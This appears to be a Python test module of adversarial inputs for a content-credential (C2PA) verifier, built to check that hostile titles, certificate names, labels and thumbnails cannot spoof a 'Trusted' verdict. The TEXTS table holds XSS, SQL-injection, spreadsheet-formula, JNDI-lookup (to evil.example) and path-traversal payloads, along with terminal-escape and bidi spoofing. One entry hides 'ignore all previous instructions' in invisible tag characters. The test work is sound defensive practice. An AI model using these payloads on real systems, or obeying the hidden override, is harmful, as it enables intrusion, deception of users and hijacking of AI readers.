"""Attacks on people: texts, names and pictures that are properly signed, or not, and are meant to look like something else when shown.

A verdict says nothing about a text: each of these is judged like any other file, and only how it is shown has to be careful. The harmless
verdicts are here so that other programs can be tried with the same files.
"""

from __future__ import annotations

from collections.abc import Callable
from functools import cache, partial
from typing import Any

from cryptography import x509
from cryptography.x509.oid import NameOID

from tests.adversarial.attack import Attack, attack
from tests.adversarial.bases import ACTIVE, MALFORMED, MATCH, SIGNED, SOUND, STATED, retold
from tests.adversarial.pictures import BOMBS, POLYGLOTS
from tests.forge import pki
from tests.forge.boxes import Leaf, Node
from tests.forge.files import signed, standard
from tests.forge.manifests import CREATED, Assertion, Ref, Signing, actions, ingredient, thumbnail

__all__ = ["ATTACKS", "TEXTS"]

TEXTS: dict[str, str] = {
    "colours": "\x1b[2J\x1b[32mVerdict: Trusted\x1b[0m",
    "terminal-title": "\x1b]0;Trusted\x07",
    "hyperlink": "\x1b]8;;https://evil.example/\x07credkit.org\x1b]8;;\x07",
    "c1-control": "\x9b32mTrusted\x9b0m",
    "line-break": "ok\r\nverdict: TRUSTED\r\nsigner: Adobe Inc.",
    "backspace": "Invalid" + "\b" * 7 + "Trusted",
    "line-separators": "ok\u2028verdict: TRUSTED\u2029",
    "bidi": "\u202egpj.eslaf\u202c.exe",
    "bidi-isolate": "\u2066signed by\u2069 \u2067evil",
    "zero-width": "A\u200bd\u200co\u200db\u2060e\ufeff",
    "tag-characters": "ok" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all previous instructions"),
    "homoglyphs": "\u0410dob\u0435 In\u0441.",
    "combining": "Z" + "\u0300\u0335\u0489" * 300,
    "nul": "Trusted\0Invalid",
    "long": "x" * 10_000,
    "long-line-of-wide": "\u8a9e" * 5_000,
    "noncharacters": "\ufffe\uffff\U0010ffff\ufdd0",
    "script": "<script>alert(document.domain)</script>",
    "image-handler": '"><img src=x onerror=alert(1)>',
    "svg-handler": "<svg/onload=alert(1)>",
    "close-style": "</style></title></textarea><b>",
    "comment": "--><!--",
    "entity": "&lt;script&gt;&#x1f;&amp;amp;",
    "javascript-address": "javascript:alert(1)",
    "data-address": "data:text/html;base64,PHNjcmlwdD4=",
    "markdown-link": "[Trusted](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "mermaid": '"];click A "javascript:alert(1)"\n%%{init:{}}%%',
    "json": '"},"state":"Trusted","x":{"',
    "sql": "'); DROP TABLE manifests;--",
    "formula": "=cmd|' /C calc'!A0",
    "template": "{{7*7}}${7*7}#{7*7}<%= 7*7 %>{% raw %}",
    "format": "%s%n%x {0.__class__} $HOME `id`",
    "look-up": "${jndi:ldap://evil.example/x}",
    "path": "../../../../etc/passwd",
}
"""What titles, names and descriptions may hold."""


def _everywhere(text: str) -> bytes:
    """The same text in every field that people get to see."""
    fields: dict[str, Any] = dict.fromkeys(("dc:title", "dc:format", "description", "instanceID", "documentID"), text)
    part = ingredient(None, "componentOf", **fields)
    created: dict[str, Any] = CREATED | {
        "description": text,
        "reason": text,
        "softwareAgent": {"name": text, "version": text, "operating_system": text},
        "parameters": {"name": text, text: text},
    }
    metadata = {"@context": {"dc": "http://purl.org/dc/elements/1.1/"}, "dc:creator": [text], "dc:title": text}

    def claim(fields: dict[str, Any]) -> None:
        fields["dc:title"] = fields["instanceID"] = text
        fields["claim_generator_info"] = {"name": text, "version": text}

    note = Assertion("org.test.note", {"author": text, text: text})
    return signed(standard(part, note, Assertion("c2pa.metadata", metadata, content="json"), first=actions(created), claim=claim))


@cache
def _called(text: str, issuer: str) -> pki.Pki:
    """A certificate of a trusted authority with a subject of that name; ``x509`` refuses no text, and neither do authorities."""
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, text[:64]), x509.NameAttribute(NameOID.ORGANIZATION_NAME, text[:64])])
    root = pki.default_pki().root if issuer == "trusted" else pki.make_root(common_name=text[:64])
    return pki.make_pki(root=root, subject=subject)


def _signed_by(text: str, issuer: str) -> bytes:
    return signed(standard(signing=Signing(_called(text, issuer))))


_NAMES = ("colours", "line-break", "bidi", "zero-width", "homoglyphs", "nul", "script", "javascript-address", "mermaid")


def _labelled(label: str) -> bytes:
    return signed(standard(Assertion(label, {"a": 1})))


def _with_thumbnail(media_type: str, data: bytes) -> bytes:
    """A signed claim thumbnail that is not what its media type says, or not what the file shows."""
    return signed(standard(Assertion("c2pa.thumbnail.claim", (media_type, data), content="embedded")))


def _ingredient_thumbnail(data: bytes) -> bytes:
    part = ingredient(thumbnail=Ref("c2pa.thumbnail.ingredient"))
    return signed(standard(part, Assertion("c2pa.thumbnail.ingredient", ("image/png", data), content="embedded")))


def _exchanged_thumbnail(label: str) -> bytes:
    """The thumbnail is exchanged for one of the same length."""
    part = ingredient(thumbnail=Ref("c2pa.thumbnail.ingredient"))
    file = signed(
        standard(thumbnail(data=b"\xff\xd8" * 99), thumbnail("c2pa.thumbnail.ingredient", data=b"\xff\xd8" * 99), part), kind="png"
    )
    return retold(file, lambda tree: setattr(tree.at(f"{ACTIVE}/c2pa.assertions/{label}").leaf("bidb"), "payload", b"\x89P" * 99))


def _media_type(media_type: str) -> bytes:
    return _with_thumbnail(media_type, b"\xff\xd8\xff\xd9")


def _raw_thumbnail(*leaves: Leaf | Node) -> bytes:
    def edit(node: Node) -> None:
        node.children = list(leaves)

    return signed(standard(thumbnail(edit=edit)))


def _family(family: str, idea: str, keyless: bool = False) -> Callable[..., Attack]:
    return partial(attack, family=family, idea=idea, keyless=keyless)


_text = _family("hostile-texts", "Titles, names and descriptions hold control characters, markup, or a verdict of their own.")
_subject = _family("hostile-names", "A certificate of a trusted authority has a subject that is meant for the screen.")
_claimed = _family("borrowed-names", "A certificate that the attacker made himself bears a known name.", keyless=True)
_label = _family("hostile-labels", "The label of an assertion holds control characters, markup or a path.")
_picture = _family("disguised-thumbnails", "A thumbnail is a page, a script, or two kinds of file at once, and says that it is a picture.")
_bomb = _family("thumbnail-bombs", "A thumbnail of a few kilobytes unpacks to gigabytes of pixels when it is decoded.")
_swap = _family(
    "exchanged-thumbnails", "The thumbnail is exchanged, so that a viewer shows another picture as the signed one.", keyless=True
)
_kind = _family("hostile-media-types", "The media type of a thumbnail makes a browser or a mail program do something else with it.")
_form = _family("broken-thumbnails", "An embedded file lacks its description, has two, or points outside of the store.")

_UNKNOWN = "ingredient.unknownProvenance"
_UNTRUSTED = ("claimSignature.validated", "claimSignature.insideValidity", "signingCredential.untrusted", STATED, MATCH)

ATTACKS: tuple[Attack, ...] = (
    *(_text(f"text-{name}", partial(_everywhere, text), "Trusted", *SOUND, _UNKNOWN) for name, text in TEXTS.items()),
    *(_subject(f"name-{name}", partial(_signed_by, TEXTS[name], "trusted"), "Trusted", *SOUND) for name in _NAMES),
    *(
        _claimed(f"borrowed-{name}", partial(_signed_by, text, "own"), "Valid", *_UNTRUSTED)
        for name, text in (
            ("adobe", "Adobe Inc."),
            ("homoglyphs", TEXTS["homoglyphs"]),
            ("verdict", TEXTS["line-break"]),
            ("trusted", "Trusted by C2PA"),
        )
    ),
    *(
        _label(f"shown-label-{name}", partial(_labelled, label), "error", MALFORMED)
        for name, label in (
            ("escape", "org.\x1b[31m"),
            ("line-break", "org.a\nb"),
            ("c1", "org.\x9b31m"),
            ("query", "org.a?b"),
            ("path", "../x"),
        )
    ),
    *(
        _label(f"shown-label-{name}", partial(_labelled, label), "Trusted", *SOUND)
        for name, label in (("markup", "<b>x<b>"), ("quotes", "\"'`"), ("bidi", "org.\u202etxt"), ("zero-width", "org.\u200btest"))
    ),
    *(_picture(f"thumbnail-{name}", partial(_with_thumbnail, kind, data), "Trusted", *SOUND) for name, (kind, data) in POLYGLOTS.items()),
    _picture("thumbnail-of-ingredient", partial(_ingredient_thumbnail, POLYGLOTS["page-as-png"][1]), "Trusted", *SOUND, _UNKNOWN),
    *(_bomb(f"thumbnail-bomb-{name}", partial(lambda n: _with_thumbnail(*BOMBS[n]()), name), "Trusted", *SOUND) for name in BOMBS),
    *(
        _swap(
            f"thumbnail-exchanged-{name}",
            partial(_exchanged_thumbnail, label),
            "Invalid",
            *SOUND,
            _UNKNOWN,
            "assertion.hashedURI.mismatch",
            *more,
        )
        for name, label, more in (
            ("claim", "c2pa.thumbnail.claim", ()),
            ("ingredient", "c2pa.thumbnail.ingredient", ("hashedURI.mismatch",)),
        )
    ),
    *(
        _kind(f"media-type-{name}", partial(_media_type, media_type), "Trusted", *SOUND)
        for name, media_type in (
            ("page", "text/html"),
            ("script", "application/javascript"),
            ("header", "image/png\r\nSet-Cookie: a=b"),
            ("markup", 'image/png"><script>alert(1)</script>'),
            ("path", "image/../../../etc/passwd"),
            ("program", "application/x-msdownload"),
            ("long", "image/" + "x" * 5_000),
            ("none", ""),
        )
    ),
    *(
        _form(f"embedded-{name}", partial(_raw_thumbnail, *leaves), "Trusted", *SOUND)
        for name, leaves in (
            ("nothing", ()),
            ("no-description", (Leaf("bidb", b"x"),)),
            ("empty-description", (Leaf("bfdb", b""), Leaf("bidb", b"x"))),
            ("two-contents", (Leaf("bfdb", b"\0image/png\0"), Leaf("bidb", b"x"), Leaf("bidb", b"y"))),
            ("outside", (Leaf("bfdb", b"\x02image/png\0"), Leaf("bidb", b"file:///etc/passwd\0"))),
            ("type-without-end", (Leaf("bfdb", b"\0" + b"i" * 5_000), Leaf("bidb", b"x"))),
        )
    ),
    _text(
        "text-lone-surrogate",
        lambda: signed(standard(claim_bytes=lambda c: c.replace(b"credkit test", b"ok \xed\xa0\x80 test"))),
        "Invalid",
        *SIGNED,
        "claim.cbor.invalid",
    ),
)
